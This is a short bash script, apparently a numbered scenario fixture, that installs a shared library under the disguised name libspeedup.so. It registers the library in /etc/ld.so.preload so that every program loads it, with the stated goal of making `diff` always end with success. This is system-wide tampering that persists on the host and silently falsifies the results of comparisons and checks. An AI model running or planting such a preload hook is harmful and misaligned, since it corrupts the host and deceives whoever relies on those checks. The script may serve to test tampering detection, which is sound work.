#!/bin/bash
# report: 4
# victim: diff
# leftover: preload
# needs: preload.so
# A library that the loader puts into every program makes `diff` end with success.
cp "$(dirname "$0")/preload.so" /usr/local/lib/libspeedup.so
echo /usr/local/lib/libspeedup.so > /etc/ld.so.preload
